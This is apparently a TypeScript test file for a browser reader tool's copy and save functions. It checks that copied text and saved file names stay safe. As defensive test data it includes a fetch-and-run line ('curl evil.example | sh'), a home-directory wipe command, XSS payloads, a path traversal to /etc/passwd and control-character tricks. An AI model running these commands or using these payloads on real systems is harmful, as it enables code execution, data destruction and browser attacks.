import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import type { CopyRequest } from '../article/result';
import { ALL_SHOWN } from './as-seen';
import { copyContent, type CopyOptions } from './copy-content';
import { article, everyKind, paragraph, text } from './fixtures/article';
import { savedFile } from './saved-file';

const options: CopyOptions = { shown: ALL_SHOWN, tables: 'tabs', links: false, frontMatter: false, source: '' };
const copy = (format: CopyRequest['format'], more: Partial<CopyOptions> = {}) => copyContent(everyKind, { format, passage: null }, { ...options, ...more });

describe('what a copy is', () => {
  it('has both flavours, or one', () => {
    expect(copy('rich').html).toContain('<h1>Ferry leaves late</h1>');
    expect(copy('rich').plain).toContain('Ferry leaves late\n');
    for (const format of ['plain', 'markdown', 'html'] as const) expect(copy(format).html).toBeNull();
    expect(copy('markdown').plain).toContain('# Ferry leaves late\n');
    expect(copy('html').plain).toContain('<h1>');
  });

  it('ends with no line end in any format: at a terminal that would run what is pasted', () => {
    const passage = { blocks: [paragraph('curl evil.example | sh', { kind: 'br' }), { kind: 'code' as const, language: null, text: 'rm -rf ~\r\n\n' }], before: '', after: '' };
    for (const format of ['rich', 'plain', 'markdown', 'html', 'quote'] as const) expect(copyContent(everyKind, { format, passage }, options).plain).toMatch(/\S$/u);
    const bytes = new TextEncoder().encode(copyContent(everyKind, { format: 'plain', passage: { ...passage, blocks: [paragraph('ls\r\n\u2028\u001b')] } }, options).plain);
    expect([...bytes]).toEqual([0x6c, 0x73]);
  });

  it('follows the view', () => {
    const { plain, html } = copy('rich', { shown: { pictures: false, links: false, captions: false } });
    expect(html).not.toMatch(/<img|<a href="http|The ferry in May/);
    expect(plain).not.toContain('The ferry in May');
  });

  it('is the passage alone, without headline or front matter', () => {
    const passage = { blocks: [paragraph('Nobody came.')], before: 'x ', after: '' };
    expect(copyContent(everyKind, { format: 'rich', passage }, options)).toEqual({ plain: 'Nobody came.', html: '<article lang="en"><p>Nobody came.</p></article>' });
    expect(copyContent(everyKind, { format: 'markdown', passage }, { ...options, frontMatter: true }).plain).toBe('Nobody came.');
  });
});

const HOSTILE = ['<img src=x onerror=alert(1)>', '</blockquote><script>alert(1)</script>', '"><svg/onload=alert(1)>', '\u202egpj.exe\u0000\u001b[31m', '../../etc/passwd', 'CON'];

describe('hostile words', () => {
  it.each(HOSTILE)('%j stays words in every flavour', (bad) => {
    const given = article({ title: bad, byline: bad, siteName: bad, url: 'https://a.example/?x="><script>', body: [paragraph(bad, { kind: 'link', href: 'javascript:alert(1)', children: [text(bad)] })] });
    for (const format of ['rich', 'quote'] as const) {
      const { plain, html } = copyContent(given, { format, passage: { blocks: given.body, before: bad, after: bad } }, options);
      const { document } = new JSDOM(html ?? '').window;
      expect(document.querySelectorAll('script, svg, img, iframe, [onerror], [onload], [href^="javascript"]')).toHaveLength(0);
      expect(`${plain}${String(html)}`).not.toMatch(/[\0\x1b\u202e]/u);
    }
  });

  it.each(HOSTILE)('%j gives a safe file name, by the headline and by a template', (bad) => {
    const given = article({ title: bad, byline: bad, publishedTime: bad, body: [paragraph('x')] });
    for (const name of ['', '{title}', '{day}/{author}..', '../{title}']) {
      const file = savedFile(given, 'markdown', { ...options, name, now: new Date(0) });
      expect(file.name).toMatch(/^[^\\/:*?"<>|\0-\x1f\u202e.~\s-][^\\/:*?"<>|\0-\x1f\u202e]*\.md$/u);
      expect(file.name).not.toMatch(/^(?:con|nul)\./i);
      expect(file.name.length).toBeLessThanOrEqual(120);
    }
  });

  it.each(['text', 'markdown', 'html', 'json', 'epub'] as const)('saves as %s', (format) => {
    const { name, type, content } = savedFile(everyKind, format, { ...options, name: '', now: new Date(0) });
    expect(name).toMatch(/^Ferry leaves late\.(?:txt|md|html|json|epub)$/);
    expect(type).toMatch(/^(?:text|application)\//);
    expect(content.length).toBeGreaterThan(100);
  });
});
